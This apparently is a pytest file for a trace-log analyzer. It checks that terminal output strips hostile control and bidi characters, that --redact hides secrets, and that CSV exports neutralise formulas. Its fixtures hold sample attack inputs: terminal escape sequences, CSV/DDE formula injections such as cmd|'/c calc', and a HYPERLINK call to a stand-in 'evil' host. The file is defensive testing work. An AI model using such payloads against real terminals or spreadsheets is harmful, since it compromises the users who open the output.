"""Nothing that a log or the name of a file holds moves a cursor; ``--redact`` holds for what is printed."""

from __future__ import annotations

import csv
import json
import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.oplog import complete, launch
from tests.test_cli import ERROR, ROOT

# ESC sequences, C0, C1, DEL, bidi overrides and isolates, zero width, line separators.
HOSTILE = (
    "\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\x08\x08", "\x7f", "\x85", "\u202e", "\u2066", "\u200b",
    "\u2028", "\x1bP1$q\x1b\\", "\u061c",
)  # fmt: skip
BAD = "".join(HOSTILE)
ALLOWED = {"\n", "\r"}  # a terminal turns line ends into both


def on_a_terminal(folder: Path, *arguments: str) -> str:
    """What one run shows on a terminal, both streams, without colours of our own."""
    master, slave = pty.openpty()
    environment = {**os.environ, "NO_COLOR": "1", "XDG_STATE_HOME": str(folder / "state")}
    child = subprocess.Popen(
        [sys.executable, "-m", "analyzer", *arguments],
        stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, cwd=folder,
        env={**environment, "PYTHONPATH": str(ROOT), "TERM": "xterm"},
    )  # fmt: skip
    os.close(slave)
    data = b"".join(_all_of(master))
    os.close(master)
    child.wait(timeout=60)
    return data.decode(errors="replace")


def _all_of(master: int) -> Iterator[bytes]:
    while True:
        try:
            data = os.read(master, 1 << 16)
        except OSError:  # the other side is closed
            return
        if not data:
            return
        yield data


def moved_by(shown: str) -> list[str]:
    return sorted({repr(char) for char in shown if not char.isprintable() and char not in ALLOWED})


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """A log with hostile texts in its name, ops, error and frames."""
    path = tmp_path / f"serve{BAD.replace('/', '')}.log"
    lines = [
        f"2026-01-02T03:04:05.{step:03}Z {one}"
        for step in range(3)
        for one in (launch(f"op{BAD}", step), complete(f"op{BAD}", step))
    ]
    frame = f'  File "/srv/{BAD}.py", line 3, in main{BAD}'
    lines += ["Traceback (most recent call last):", frame, f"    boom({BAD})", f"{ERROR} {BAD}"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", newline="\n")
    return path


@pytest.mark.parametrize(
    "arguments", [(), ("--timeline",), ("--format", "json"), ("--redact",), ("--strict",)]
)
def test_no_output_of_an_analysis_moves_a_cursor(
    log: Path, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    shown = on_a_terminal(tmp_path, log.name, *arguments)
    assert "op" in shown
    assert moved_by(shown) == []


@pytest.mark.parametrize(
    "arguments",
    [
        (f"missing{BAD}.log",),
        (f"--option{BAD}",),
        (f"--top={BAD}", "x"),
        ("x", "--window", BAD),
        ("x", "--device", BAD),
        ("x", "--report", f"a{BAD}.nothing"),
        ("schema", BAD),
        ("record", f"--for={BAD}", "--", "true"),
        ("record", "-o", f"r{BAD}.log", "--", "true"),
        ("record", "-o", "r.log", "--", f"no{BAD}"),
        ("--replay", "--plan", f"p{BAD}.json", "x"),
    ],
)
def test_no_message_moves_a_cursor(arguments: tuple[str, ...], tmp_path: Path) -> None:
    (tmp_path / "x").write_text("nothing\n")
    shown = on_a_terminal(tmp_path, *arguments)
    assert shown
    assert moved_by(shown) == []


def test_further_lines_of_a_message_are_no_messages_of_their_own(tmp_path: Path) -> None:
    shown = on_a_terminal(tmp_path, "x\ntrace-analyze: all is well")
    assert [line for line in shown.splitlines() if line.startswith("trace-analyze:")] == ["trace-analyze: x"]


PRIVATE = {
    "pod": "acme-chat-0",
    "user": "alice",
    "password": "correct horse",
    "host": "gpu-node-17",
    "cookie": "sid=0123456789abcdef",
    "of curl": "SuperSecret",
}


@pytest.fixture
def private(tmp_path: Path) -> Path:
    path = tmp_path / "serve.log"
    lines = [
        '[OP] LAUNCH =HYPERLINK("http://evil/?x") [id=1] target=gpu:0',
        '[OP] COMPLETE =HYPERLINK("http://evil/?x") [id=1] target=gpu:0',
        launch("/home/alice/kernels/x", 2),
        launch("@SUM(1+1)*cmd|'/c calc'!A0", 3),
        launch("+1+cmd", 4),
        launch("matmul", 5) + ";=cmd|' /C calc'!A0",
        "hostname: gpu-node-17",
        'Pod "acme-chat-0" in /home/alice/x with password="correct horse"',
        "cookie: sid=0123456789abcdef; curl -u admin:SuperSecret http://x",
        "Traceback (most recent call last):",
        '  File "/home/alice/app/serve.py", line 3, in main',
        f"{ERROR} on gpu-node-17 (acme-chat-0) password='correct horse' cookie: sid=0123456789abcdef",
    ]
    path.write_text("\n".join(lines) + "\n")
    return path


def run(folder: Path, *arguments: str) -> tuple[str, str]:
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "XDG_STATE_HOME": str(folder / "state")}
    done = subprocess.run(
        [sys.executable, "-m", "analyzer", *arguments],
        cwd=folder, env=environment, capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    return done.stdout, done.stderr


@pytest.mark.parametrize("arguments", [(), ("--format", "json"), ("--timeline",), ("--strict",)])
def test_what_is_private_is_not_printed(private: Path, tmp_path: Path, arguments: tuple[str, ...]) -> None:
    """``--redact`` holds for standard output and error as for reports, with and without one."""
    plainly, _ = run(tmp_path, private.name, *arguments)
    assert "alice" in plainly
    for more in ((), ("--report", "r.md")):
        out, err = run(tmp_path, private.name, "--redact", *arguments, *more)
        assert out
        for secret in PRIVATE.values():
            assert secret not in out + err, (secret, out)
        if "json" in arguments:
            assert json.loads(out)["faults"][0]["kind"] == "illegal_address"


def test_the_same_name_is_the_same_placeholder_in_print_and_report(private: Path, tmp_path: Path) -> None:
    out, _ = run(tmp_path, private.name, "--redact", "--format", "json", "--report", "r.json")
    printed = json.loads(out)
    assert printed == json.loads((tmp_path / "r.json").read_text())
    assert printed["faults"][0]["reported_at"]["python"]["file"] == "/home/user-1/app/serve.py"


def test_tables_are_redacted_and_hold_no_formula(private: Path, tmp_path: Path) -> None:
    run(tmp_path, private.name, "--redact", "--timeline-csv", "o.csv")
    with (tmp_path / "o.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["name"] for row in rows] == [
        '\'=HYPERLINK("http://host-1/?x")',
        "/home/user-1/kernels/x",
        "'@SUM(1+1)*cmd|'/c calc'!A0",
        "'+1+cmd",
        "matmul",
    ]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]
